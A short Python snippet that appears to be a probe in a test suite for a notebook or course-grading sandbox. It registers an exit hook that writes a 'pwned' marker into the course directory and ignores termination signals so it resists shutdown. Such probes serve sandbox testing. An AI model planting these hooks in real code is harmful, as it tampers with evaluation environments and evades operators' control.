# tries: act when the kernel ends
# place: first
# works: changed
import atexit, signal
atexit.register(lambda: open("@COURSE@/pwned", "w").write("x"))
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(number, lambda *a: None)
